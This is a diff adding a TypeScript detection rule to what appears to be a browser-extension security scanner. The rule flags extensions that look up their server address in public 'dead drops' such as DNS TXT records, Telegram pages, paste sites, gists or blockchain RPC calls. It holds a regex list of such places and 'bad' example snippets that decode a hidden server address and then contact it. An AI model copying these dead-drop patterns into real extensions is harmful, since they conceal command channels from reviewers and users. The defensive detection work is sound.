@@ -1,0 +1,80 @@
+import { constant, Op, scriptsOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import type { Facts } from '../../facts.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { isHeldServerText } from './heldServerText.ts';
+import { hostOf, mentions, requestsOf, type Request } from './network.ts';
+import { originPaths, originsOf } from './origins.ts';
+import { leavesBy } from './sendings.ts';
+import { few } from './usage.ts';
+
+/** Public places in which anybody can leave a text. */
+const PLACES = /\/\/(?:(?:[\w-]+\.)?cloudflare-dns\.com\/|dns\.google\/|dns\.quad9\.net|doh\.[\w.-]+\/|[^/]+\/dns-query|t\.me\/|telegra\.ph\/|api\.telegra\.ph\/|pastebin\.com\/|paste\.ee\/|rentry\.co\/|hastebin\.com\/|gist\.github(?:usercontent)?\.com\/|api\.github\.com\/gists|docs\.google\.com\/(?:spreadsheets|document|forms|presentation)|sheets\.googleapis\.com\/|(?:www\.)?steamcommunity\.com\/|(?:www\.)?youtube\.com\/(?:watch|channel|@)|(?:mobile\.)?(?:twitter|x)\.com\/|[\w.-]*mastodon[\w.-]*\/|[\w-]+\.blogspot\.com\/|calendar\.(?:app\.)?google|blockchain\.info\/|mempool\.space\/|blockstream\.info\/|api\.etherscan\.io\/|api\.blockcypher\.com\/)/i;
+/** Questions to a node of a blockchain. */
+const CHAIN = /^(eth_call|eth_getStorageAt|eth_getTransactionByHash|eth_getLogs|getTransaction|getSignaturesForAddress|getAccountInfo|sui_getObject|sui_getTransactionBlock)$/;
+const CHAIN_HINT = /eth_|getTransaction|getSignaturesForAddress|getAccountInfo|sui_get/;
+
+export const deadDropAddress = defineRule({
+  id: 'dead-drop-address',
+  title: 'The server that the extension talks to is looked up in a public place',
+  severity: 'medium',
+  confidence: 'medium',
+  category: 'code',
+  applies: 'extension',
+  cwe: 'CWE-506',
+  references: ['https://attack.mitre.org/techniques/T1102/001/'],
+  why: 'An address that stands in a name record, a post or a blockchain can be changed when the last one was blocked, and no review or list of permissions shows it.',
+  remedy: 'Write the addresses of your servers into the package.',
+  check: checkScripts(function* ({ script, facts, hit }) {
+    if (script.stats.values > 60_000) return;
+    const drops = dropsOf(script);
+    const kept = drops.length === 0 && facts.whole(someDropIsKept);
+    if (drops.length === 0 && !kept) return;
+    for (const request of few(requestsOf(script), 200)) {
+      if (request.address === 0 || hostOf(request.to) !== undefined || !/^(?:(?:https?|wss?):\/\/)?\*/.test(request.to)) continue;
+      const origins = originsOf(script, request.address);
+      const drop = drops.find((one) => one.value !== request.value && origins.has(one.value));
+      if (drop === undefined && !(kept && isHeldServerText(facts, script, request.address))) continue;
+      const paths = originPaths(script, request.address);
+      const decoded = ['atob', 'String.fromCharCode', 'TextDecoder', 'TextDecoder().decode'].some((path) => paths.has(path));
+      yield hit(request.value, { ...(decoded || drop === undefined ? { severity: 'high' as const } : {}), message: drop === undefined ? 'Its address was left in a public place and kept.' : `Its address is what ${hostOf(drop.to) ?? 'a node of a blockchain'} answers${decoded ? ', decoded' : ''}.` });
+      return;
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('const txt = async (n) => { const r = await fetch(`https://cloudflare-dns.com/dns-query?name=${n}&type=TXT`, { headers: { accept: "application/dns-json" } }); const { Answer } = await r.json(); return Answer[0].data; }; (async () => { const home = atob(await txt("cfg.x.example")); const j = await (await fetch(home + "/q")).json(); use(j); })();'),
+      backgroundExample('(async () => { const page = await (await fetch("https://t.me/s/somenews")).text(); const host = /~([^~]+)~/.exec(page)[1]; navigator.sendBeacon("https://" + host + "/f", "1"); })();'),
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}', 'bg.js': 'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://rpc.chain.example/", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", method: "eth_call", params: [{ to: "0x1" }, "latest"] }) }); const { result } = await r.json(); let s = ""; for (let i = 2; i < result.length; i += 2) s += String.fromCharCode(parseInt(result.substr(i, 2), 16)); chrome.storage.local.set({ srv: s }); });', 'c.js': 'chrome.storage.local.get("srv", async ({ srv }) => { const t = await (await fetch(srv + "/i?h=" + location.host)).text(); use(t); });' } },
+    ],
+    good: [
+      backgroundExample('(async () => { const r = await fetch("https://cloudflare-dns.com/dns-query?name=a.example&type=A"); const { Answer } = await r.json(); chrome.action.setBadgeText({ text: Answer[0].data }); fetch("https://tool.example/ping"); })();'),
+      backgroundExample('(async () => { const { upload } = await (await fetch("https://api.tool.example/session")).json(); await fetch(upload, { method: "PUT", body: "x" }); })();'),
+      backgroundExample('(async () => { const r = await (await fetch("https://docs.google.com/spreadsheets/d/e/x/pub?output=csv")).text(); chrome.storage.local.set({ rows: r.split("\\n").length }); fetch(chrome.runtime.getURL("a.json")); })();'),
+    ],
+  },
+});
+
+/** Requests that ask a public place or a blockchain. */
+function dropsOf(script: ScriptFacts): Request[] {
+  const requests = few(requestsOf(script), 200);
+  // The cheap questions first: most scripts know all hosts that they talk to.
+  const places = requests.filter((request) => PLACES.test(request.to));
+  if (places.length > 0 || !requests.some((request) => request.sent.length > 1) || !mentions(script, CHAIN_HINT)) return places;
+  return requests.filter((request) => request.sent.some((value) => value !== request.address && asksChain(script, value)));
+}
+
+function asksChain(script: ScriptFacts, value: number): boolean {
+  for (const one of originsOf(script, value)) if (script.op[one] === Op.constant && CHAIN.test(constant(script, one) ?? '')) return true;
+  return false;
+}
+
+/** Whether some script stores what such a place answered. */
+function someDropIsKept(facts: Facts): boolean {
+  for (const { file, script } of scriptsOf(facts)) {
+    if (file.traits.vendored || script.stats.values > 60_000) continue;
+    const drops = dropsOf(script);
+    if (drops.length > 0 && leavesBy(script, new Set(drops.map((drop) => drop.value)), ['storage']) !== undefined) return true;
+  }
+  return false;
+}
